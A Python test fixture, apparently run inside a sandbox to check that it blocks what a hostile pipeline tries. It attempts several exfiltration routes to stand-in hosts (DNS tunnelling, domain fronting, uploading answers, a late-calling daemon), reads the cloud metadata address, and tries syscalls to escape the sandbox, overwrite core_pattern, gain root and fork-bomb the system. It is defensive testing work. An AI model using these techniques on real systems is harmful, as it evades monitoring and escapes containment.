"""What a hostile pipeline tries, all of it in one sitting: runs inside the sandbox, standard library alone.

Prints one JSON object: the attempt's name to what came of it, an errno's name or a few words. What the recorder saw of it
is asked of the recorder afterwards. Never imported by the tests: they read it as a text.
"""

import contextlib
import ctypes
import errno
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

HOST_PID, HOST_SOCKET, HOST_ABSTRACT, HOST_FILE = sys.argv[1:5]
LIBC = ctypes.CDLL(None, use_errno=True)
CAME_OF_IT: dict[str, str] = {}


def attempt(function):
    """Run it now and keep what came of it."""
    try:
        outcome = function()
    except ssl.SSLError as error:
        outcome = type(error).__name__
    except OSError as error:
        outcome = errno.errorcode.get(error.errno or 0) or type(error).__name__
    CAME_OF_IT[function.__name__] = str(outcome)
    return function


def call(number, *arguments):
    """A raw system call; raises OSError."""
    result = LIBC.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return f"returned {result}"


def say(host, port, data, *, wait=1.0):
    """Send bytes to host and port, and tell what came back."""
    with socket.create_connection((host, port), timeout=5) as connection:
        connection.sendall(data)
        connection.settimeout(wait)
        try:
            return f"answered {connection.recv(12)!r}"
        except TimeoutError:
            return "no answer"
        except ConnectionError:
            return "reset"


def secure(host, port, context, data=b"", *, name=None, address=None):
    with socket.create_connection((address or host, port), timeout=5) as raw:
        with context.wrap_socket(raw, server_hostname=name) as connection:
            connection.sendall(data)
            connection.settimeout(2)
            try:
                return f"answered {connection.recv(12)!r}"
            except TimeoutError:
                return "no answer"


def datagram(address, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.2)
        sender.sendto(data, (address, port))
        try:
            return f"answered {sender.recv(100)!r}"
        except TimeoutError:
            return "no answer"


def hello_with_ech(name):
    """A ClientHello that carries an encrypted one (extension 0xfe0d)."""
    server_name = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name.encode()
    extensions = b"".join(
        struct.pack("!HH", kind, len(data)) + data
        for kind, data in (
            (0, server_name),
            (0xFE0D, b"\0" * 60),
            (43, b"\2\3\4"),
            (13, b"\0\2\4\3"),
            (10, b"\0\2\0\x1d"),
            (51, b"\0\x24\0\x1d\0\x20" + b"\7" * 32),
        )
    )
    body = b"\3\3" + b"\1" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack("!H", len(extensions)) + extensions
    handshake = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + struct.pack("!H", len(handshake)) + handshake


def trusting_ours():
    return ssl.create_default_context()


def trusting_nobody_else():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    return context  # as a program with a pinned certificate: ours is not the one


# Ways past the recorder


@attempt
def a_pinned_certificate():
    return secure("pinned.attempts.example", 443, trusting_nobody_else(), name="pinned.attempts.example")


@attempt
def an_encrypted_client_hello():
    return say("ech.attempts.example", 443, hello_with_ech("ech.attempts.example"), wait=0.5)[:8]


@attempt
def quic():
    return datagram("192.0.2.44", 443, b"\xc3\0\0\0\1" + b"\0" * 1200)


@attempt
def other_udp():
    return datagram("192.0.2.45", 4000, b"data")


@attempt
def plain_http_to_a_bare_address():
    return say("192.0.2.46", 80, b"GET /x HTTP/1.1\r\nHost: 192.0.2.46\r\n\r\n")


@attempt
def tls_to_a_bare_address():
    context = ssl.create_default_context()
    context.check_hostname = False
    return secure("192.0.2.47", 443, context)


@attempt
def the_clouds_metadata_address():
    return say("169.254.169.254", 80, b"GET /latest/meta-data HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")


@attempt
def mail():
    return say("mail.attempts.example", 25, b"EHLO me\r\n")


@attempt
def a_database_protocol():
    return say("db.attempts.example", 5432, struct.pack("!II", 8, 80877103))


@attempt
def ssh():
    return say("ssh.attempts.example", 22, b"SSH-2.0-client\r\n")


@attempt
def dns_over_tls():
    query = b"\0\x1d" + b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4data\7example\0\0\1\0\1"
    return secure("dot.attempts.example", 853, trusting_ours(), query, name="dot.attempts.example")


@attempt
def dns_over_https():
    body = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4data\7example\0\0\1\0\1"
    head = b"POST /dns-query HTTP/1.1\r\nHost: doh.attempts.example\r\nContent-Type: application/dns-message\r\n"
    request = head + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body
    return secure("doh.attempts.example", 443, trusting_ours(), request, name="doh.attempts.example")


@attempt
def data_in_names_looked_up():
    for number in range(25):
        with contextlib.suppress(OSError):
            socket.getaddrinfo(f"{number:02x}{'ab' * 25}.tunnel.example", 443)
    return "answered with addresses of ours"


@attempt
def answers_uploaded_to_an_allowed_host():
    body = b"an answer of the teacher\n" * 4000
    head = b"PUT /dropped HTTP/1.1\r\nHost: files.attempts.example\r\nContent-Type: text/plain\r\n"
    request = head + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body
    return secure("files.attempts.example", 443, trusting_ours(), request, name="files.attempts.example")


@attempt
def another_host_in_the_host_header():
    request = b"GET /fronted HTTP/1.1\r\nHost: hidden.attempts.example\r\nConnection: close\r\n\r\n"
    return secure("front.attempts.example", 443, trusting_ours(), request, name="front.attempts.example")


@attempt
def a_server_inside_the_pipeline():
    script = "import socket; s = socket.create_server(('127.0.0.1', 8000)); c = s.accept()[0]; c.recv(9); c.sendall(b'inside')"
    server = subprocess.Popen([sys.executable, "-c", script])
    for _ in range(100):
        with contextlib.suppress(ConnectionRefusedError):
            said = say("127.0.0.1", 8000, b"question")
            break
        time.sleep(0.05)
    server.wait(5)
    return said


# Sockets and descriptors of others


@attempt
def a_socket_file_of_the_host():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(HOST_SOCKET)
    return "connected"


@attempt
def an_abstract_socket_of_the_host():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + HOST_ABSTRACT)
    return "connected"


@attempt
def inherited_descriptors():
    kinds = {os.readlink(f"/proc/self/fd/{name}").partition(":")[0] for name in ("0", "1", "2")}
    further = [name for name in os.listdir("/proc/self/fd") if int(name) > 2]
    return f"{sorted(kinds)} and {len(further) - 1} more"


@attempt
def a_descriptor_passed_on_by_scm_rights():
    ours, theirs = socket.socketpair()
    with open("/proc/self/status") as file:
        socket.send_fds(ours, [b"x"], [file.fileno()])
        _, descriptors, _, _ = socket.recv_fds(theirs, 1, 4)
    return f"{len(descriptors)} of our own, from ourselves: nobody outside is there to pass one in"


# Sockets that see more, or go round the rules


def open_socket(*kind):
    with socket.socket(*kind):
        return "opened"


@attempt
def a_raw_socket():
    return open_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


@attempt
def a_packet_socket():
    return open_socket(17, socket.SOCK_RAW)


@attempt
def a_socket_to_the_hypervisor():
    return open_socket(40, socket.SOCK_STREAM)


@attempt
def io_uring():
    return call(425, 8, 0)


@attempt
def the_routing_table():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as rtnetlink:
        rtnetlink.bind((0, 0))
        # RTM_NEWLINK for interface 1, flags down
        body = struct.pack("BBHiII", 0, 0, 0, 1, 0, 1)
        rtnetlink.send(struct.pack("IHHII", 16 + len(body), 16, 5, 1, 0) + body)
        answer = rtnetlink.recv(4096)
        code = -struct.unpack_from("i", answer, 16)[0]
        return errno.errorcode.get(code, "changed")


# Leaving the sandbox


@attempt
def debugging_the_first_process():
    return call(101, 16, 1, 0, 0)


@attempt
def reading_memory_of_others():
    return call(310, 1, 0, 0, 0, 0, 0)


@attempt
def taking_a_descriptor_of_others():
    return call(438, 0, 0, 0)


@attempt
def mounting():
    return call(165, b"none", b"/tmp", b"tmpfs", 0, 0)


@attempt
def a_new_root():
    return call(155, b"/tmp", b"/tmp")


@attempt
def a_new_user_namespace():
    return call(272, 0x10000000)


@attempt
def a_new_network_namespace_by_clone():
    return call(56, 0x40000011, 0, 0, 0, 0)


@attempt
def clone3():
    return call(435, 0, 0)


@attempt
def entering_the_hosts_namespace():
    return call(308, 0, 0)


@attempt
def kernel_keys():
    return call(250, 0, 0, 0)


@attempt
def programs_in_the_kernel():
    return call(321, 0, 0, 0)


@attempt
def page_faults_in_user_space():
    return call(323, 0)


@attempt
def files_by_handle():
    return call(304, 0, 0, 0)


@attempt
def kernel_modules():
    return call(313, 0, b"", 0)


@attempt
def becoming_root():
    os.setuid(0)
    return "became root"


@attempt
def a_program_with_the_setuid_bit():
    done = subprocess.run(["su", "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL, text=True)
    return f"ran as {done.stdout.strip()}" if done.returncode == 0 else "EPERM"


@attempt
def a_device():
    os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))
    return "made"


@attempt
def processes_of_the_host():
    return "seen" if os.path.exists(f"/proc/{HOST_PID}") else "ENOENT"


@attempt
def settings_of_the_kernel():
    with contextlib.suppress(OSError), open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/tmp/x")
        return "written"
    return "EACCES"  # or EROFS, as the kernel likes


@attempt
def a_file_of_the_host():
    with open(HOST_FILE) as file:
        return file.read()


@attempt
def writing_where_others_read():
    for place in ("/usr/lib/x", "/etc/x", "/home/x", "/dev/x", "/run/x", "/audited/x"):
        with contextlib.suppress(OSError), open(place, "w"):
            return f"wrote {place}"
    return "EROFS"


# Outliving the run


@attempt
def a_daemon_that_outlives_the_run():
    script = (
        "import os, socket, time\n"
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        "time.sleep(60)\n"
        "late = socket.create_connection(('late.attempts.example', 80))\n"
        "late.sendall(b'GET /late HTTP/1.1\\r\\nHost: late.attempts.example\\r\\n\\r\\n')\n"
    )
    # Its standard streams are its own, or it would keep the run's open; its name is in its arguments.
    quiet = subprocess.DEVNULL
    subprocess.run(
        [sys.executable, "-c", script, f"daemon of {HOST_ABSTRACT}"], stdin=quiet, stdout=quiet, stderr=quiet
    )
    return "started"


@attempt
def a_fork_bomb():
    children: list[int] = []
    try:
        while len(children) < 400:
            child = os.fork()
            if child == 0:
                time.sleep(20)
                os._exit(0)
            children.append(child)
        return "no end"
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)


print(json.dumps(CAME_OF_IT))
